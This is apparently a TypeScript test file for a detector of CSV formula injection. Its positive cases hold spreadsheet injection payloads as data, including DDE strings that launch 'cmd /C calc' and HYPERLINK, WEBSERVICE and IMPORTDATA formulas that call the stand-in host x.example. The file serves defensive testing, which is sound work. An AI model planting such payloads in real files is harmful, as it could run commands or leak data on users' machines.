import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { commandIn } from './csv-command';

const SEPARATORS = [',', ';', '\t', '|'];
const isCommandIn = (text: string) => commandIn(text, SEPARATORS, true) >= 0;
const LONG = '1+'.repeat(20_000);

describe('a cell that calls a program or an address', () => {
  it.each([
    "=cmd|' /C calc'!A0",
    '1;"+cmd|\' /C calc\'!A0"',
    'a,=HYPERLINK("https://x.example","y")',
    'a\t @WEBSERVICE ("https://x.example")',
    '=1+1+IMPORTDATA("https://x.example")',
    '-2|3!4',
    '"=1;HYPERLINK(""https://x.example/?""&A1,""x"")"',
    '=IF(1;HYPERLINK("https://x.example";"x");0)',
    '=IF(1,HYPERLINK("https://x.example","x"),0)',
    '=1,5&HYPERLINK("https://x.example")',
    'a,"=""a,b"" & ""c"" & HYPERLINK(A1)"',
    '"=1+\n\nHYPERLINK(A1)"',
    `=${LONG}hyperlink(x)`,
    `"=""${'a'.repeat(500)}""&HYPERLINK(A1)"`,
    '=IMAGE("https://x.example/a.png")',
    '=_xlfn.IMAGE("https://x.example/a.png")',
    'a;=RTD("jahat",,"a")',
    '-RTD("jahat")',
    '""=DDE("cmd";"/c calc";"x")',
    'a|=HYPERLINK("https://x.example")',
    '\uff1dHYPERLINK("https://x.example")',
    '"a\nb";1\n=WEBSERVICE(A1)',
    '"belum ditutup\n=WEBSERVICE(A1)',
  ])('%j', (text) => expect(isCommandIn(text)).toBe(true));

  it.each([
    'nama\tjumlah (Rp)',
    '=SUM(A1:A3);-2',
    'lihat hyperlink(x)',
    '=1;hyperlink(x)',
    '-;Rapat;Call (Zoom)',
    '-,Image (foto)',
    '-|Image (foto)',
    'a|b!c',
    'penting! (lihat) | -3',
    '- Sewa gedung | call (rapat)!',
    '- lihat image (foto) | rapat!',
    '"- Sewa gedung; call (rapat)!"x',
    '"- a ""kutip"" | b"',
    '- Video / Image (foto)',
    '- rapat: call (0812)',
    '+62 24 (call)',
    '"a","=SUM(B1:B2)","HYPERLINK(x)"',
    '-5;"a\n=1"',
    '=MYIMAGE(1)',
  ])('not: %j', (text) => expect(isCommandIn(text)).toBe(false));

  it('is found by the separator the file names', () => {
    expect(commandIn('a^=HYPERLINK(A1)', ['^'], true)).toBe(2);
    expect(commandIn('a-=HYPERLINK(A1)', ['-'], true)).toBe(2);
  });

  it('is found wherever it stands in a line', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', ' ', '1', '(', '.'), maxLength: 12 });
    const separator = fc.constantFrom(';', ',', '\t');
    fc.assert(
      fc.property(fc.array(cell), fc.array(cell), separator, (before, after, between) => {
        const line = [...before, '=CMD|x!y', ...after].join(between);
        expect(isCommandIn(line)).toBe(true);
      }),
    );
  });
});
